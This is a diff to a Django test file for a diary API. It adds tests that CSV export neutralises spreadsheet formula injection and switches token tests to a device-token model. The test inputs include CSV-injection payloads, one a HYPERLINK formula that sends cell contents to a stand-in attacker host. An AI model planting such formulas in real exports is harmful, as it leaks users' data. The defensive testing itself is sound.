@@ -1,11 +1,14 @@
+import csv as csv_module
+import io
 import json
 import uuid
 
 import pytest
 from django.contrib.auth.models import User
-from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
+from accounts.models import DeviceToken
+from diary.api import CSV_COLUMNS
 from diary.models import Entry
 from tests.diary.helpers import at, change
 
@@ -233,9 +236,37 @@ def test_it_exports_all_data_as_json_and_csv(alice):
     csv = alice.get("/api/v1/diary/export.csv")
     assert csv["Content-Type"].startswith("text/csv")
     text = csv.content.decode("utf-8-sig")
-    assert text.splitlines()[0].startswith("id,started_at,duration_minutes,intensity")
-    assert "heat:2" in text
+    assert text.splitlines()[0].startswith('"id","started_at","duration_minutes","intensity"')
+    assert '"heat:2"' in text
     assert '"Rücken, „links“"' in text
+
+
+@pytest.mark.parametrize(
+    "notes",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"Befund")',
+        "+1+2",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_it_never_exports_a_note_that_a_spreadsheet_would_run(alice, notes):
+    """OWASP, CSV injection: a leading single quote, and the cell quoted."""
+    sync(alice, [change(notes=notes)])
+    text = alice.get("/api/v1/diary/export.csv").content.decode("utf-8-sig")
+    quoted = notes.replace('"', '""')
+    assert f',"\'{quoted}",' in text
+    (row,) = list(csv_module.reader(io.StringIO(text)))[1:]
+    assert row[CSV_COLUMNS.index("notes")] == f"'{notes}"
+
+
+def test_it_keeps_a_separator_in_a_note_inside_its_cell(alice):
+    # A German Excel splits CSV at ";": quoting keeps "a;=1+1" one cell, not a formula cell.
+    sync(alice, [change(notes="a;=1+1")])
+    text = alice.get("/api/v1/diary/export.csv").content.decode("utf-8-sig")
+    assert ',"a;=1+1",' in text
 
 
 # Object-level permissions: every endpoint, user A against user B's rows.
@@ -277,9 +308,9 @@ def test_it_requires_authentication_on_every_endpoint(method, url):
 
 def test_it_accepts_a_token_for_other_api_clients(db):
     user = User.objects.create_user("carol@example.org", "carol@example.org", "x")
-    token = Token.objects.create(user=user)
+    _, token = DeviceToken.objects.create(user=user, name="script")
     client = APIClient()
-    client.credentials(HTTP_AUTHORIZATION=f"Token {token.key}")
+    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
     assert sync(client, [change()]).status_code == 200
 
 
